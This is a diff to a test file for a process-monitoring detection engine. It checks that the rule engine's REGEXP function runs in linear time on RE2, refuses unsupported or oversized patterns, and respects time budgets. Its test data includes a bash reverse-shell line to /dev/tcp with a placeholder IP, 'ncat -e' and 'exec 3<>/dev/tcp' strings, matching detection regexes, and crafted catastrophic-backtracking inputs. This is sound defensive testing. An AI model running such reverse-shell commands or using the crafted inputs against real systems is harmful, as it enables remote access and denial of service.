@@ -14,12 +14,16 @@ import apsw
 import pytest
 
 from daemoneye.engine.evaluator import MAX_CONSECUTIVE_TIMEOUTS, Evaluator
-from daemoneye.engine.sandbox import compile_columns, open_scratch
+from daemoneye.engine.sandbox import Deadline, compile_columns, open_scratch
 from daemoneye.errors import QueryError
 from daemoneye.models import ProcessKey, ProcessRecord, Rule, ScanDelta
 from daemoneye.store import Store, open_readonly
 from daemoneye.store.sandbox import (
     MAX_REGEXP_PATTERN,
+    MAX_REGEXP_PROGRAM,
+    MAX_REGEXP_SUBJECT,
+    BudgetExceeded,
+    Regexp,
     UnsafePatternError,
     compile_pattern,
     regexp,
@@ -209,36 +213,109 @@ def test_huge_values_are_capped(evaluator: Evaluator) -> None:
     ]
 
 
+# Just under the 64 KiB searched, so that `$` means the value's real end.
+CRAFTED = "a" * 65000 + "!"
+
+
 @pytest.mark.parametrize(
-    "pattern",
+    ("pattern", "expected"),
     [
-        "(a+)+$",
-        "(a|aa)*b",
-        "(\\w+\\s?)*$",
-        "(x)\\1",
-        "a*b*c*d*e*f*",
-        "x" * (MAX_REGEXP_PATTERN + 1),
+        ("^(a+)+$", 0),
+        (".*.*.*.*x", 0),
+        ("(a|aa)*b", 0),
+        ("(\\w+\\s?)*$", 1),
+        ("^(a+)+!$", 1),
+        ("a*b*c*d*e*f*!", 1),
     ],
 )
-def test_regexp_refuses_patterns_that_backtrack_catastrophically(pattern: str) -> None:
-    with pytest.raises(UnsafePatternError):
+def test_regexp_is_linear_on_patterns_that_backtrack_in_re(pattern: str, expected: int) -> None:
+    """Shapes that take Python's `re` ages on a crafted value are plain patterns on RE2."""
+    assert regexp(pattern, CRAFTED) == expected
+
+
+@pytest.mark.parametrize(
+    ("pattern", "reason"),
+    [
+        ("(x)\\1", "not valid RE2 syntax"),
+        ("foo(?=bar)", "not valid RE2 syntax"),
+        ("(?<!a)b", "not valid RE2 syntax"),
+        ("x" * (MAX_REGEXP_PATTERN + 1), "characters long"),
+        (f"[a-z]{{{MAX_REGEXP_PROGRAM + 1}}}", "too complex"),
+    ],
+)
+def test_regexp_refuses_what_re2_cannot_run_or_costs_too_much(pattern: str, reason: str) -> None:
+    with pytest.raises(UnsafePatternError, match=reason):
         compile_pattern(pattern)
-    with pytest.raises(UnsafePatternError):
-        regexp(pattern, "a" * 30 + "!")
+    with pytest.raises(UnsafePatternError, match=reason):
+        regexp(pattern, "xxx")
 
 
 def test_regexp_matches_like_sqlite_expects() -> None:
     assert regexp(r"/dev/(tcp|udp)/", "bash -i >& /dev/tcp/1.2.3.4/80") == 1
     assert regexp(r"^nc$", "ncat") == 0
+    assert regexp(r"(?i)NCAT", "ncat -e") == 1
+    assert regexp(r"\bexec\s", "exec 3<>/dev/tcp") == 1
+    assert regexp(r"^é+$", "ééé") == 1
+    assert regexp(r"^ab$", b"ab") == 1
     assert regexp(r"x", None) is None
+    assert regexp(None, "x") is None
+
+
+def test_regexp_searches_only_the_first_64_kib() -> None:
+    assert regexp("!", "a" * (MAX_REGEXP_SUBJECT - 1) + "!") == 1
+    assert regexp("!", "a" * MAX_REGEXP_SUBJECT + "!") == 0
+
+
+def test_regexp_refuses_to_start_past_the_statements_deadline() -> None:
+    passed = Deadline(expires=0.0)
+    with pytest.raises(BudgetExceeded):
+        Regexp(passed)("a", "a")
+    assert Regexp(Deadline())("a", "a") == 1
+
+
+def test_a_rule_past_its_budget_stops_at_its_next_regexp(
+    populated: Store, make_record: RecordFactory, make_delta: DeltaFactory
+) -> None:
+    """The progress handler never fires inside a short statement; REGEXP checks the clock
+    itself, so even a statement of a few VM steps cannot start a search past its budget."""
+    evaluator = Evaluator(populated.path, time_budget_s=1e-9)
+    try:
+        evaluator.set_rules(
+            [rule("SELECT pid, start_time FROM processes WHERE cmdline REGEXP 'sleep'", "re")]
+        )
+        result = evaluator.evaluate_changes([ProcessKey(100, 10.0)])
+    finally:
+        evaluator.close()
+    assert [(f.rule_id, f.kind) for f in result.failures] == [("re", "timeout")]
+
+
+@pytest.mark.timeout(120)  # a hang guard: `.*.*.*.*x` never ends on a backtracking engine
+def test_crafted_64_kib_command_line_does_not_stall_regexp_rules(
+    store: Store, make_record: RecordFactory, make_delta: DeltaFactory
+) -> None:
+    crafted = "a" * 65536 + "!"
+    store.apply(make_delta(11.0, added=[make_record(200, 10.0, cmdline=(crafted,))]))
+    evaluator = Evaluator(store.path)
+    try:
+        evaluator.set_rules(
+            [
+                rule(f"SELECT pid, start_time FROM processes WHERE cmdline REGEXP '{p}'", rid)
+                for rid, p in [("nested", "^(a+)+b"), ("stars", ".*.*.*.*x"), ("hit", "^(a|aa)+a")]
+            ]
+        )
+        result = evaluator.evaluate_changes([ProcessKey(200, 10.0)])
+    finally:
+        evaluator.close()
+    assert result.failures == ()
+    assert [d.rule_id for d in result.detections] == ["hit"]
 
 
 def test_unsafe_regexp_in_a_rule_is_refused_at_load() -> None:
     conn = open_scratch()
     try:
-        with pytest.raises(QueryError, match="catastrophic backtracking"):
+        with pytest.raises(QueryError, match="not valid RE2 syntax"):
             compile_columns(
-                conn, "SELECT pid, start_time FROM processes WHERE cmdline REGEXP '(a+)+$'"
+                conn, "SELECT pid, start_time FROM processes WHERE cmdline REGEXP '(a)\\1'"
             )
     finally:
         conn.close()
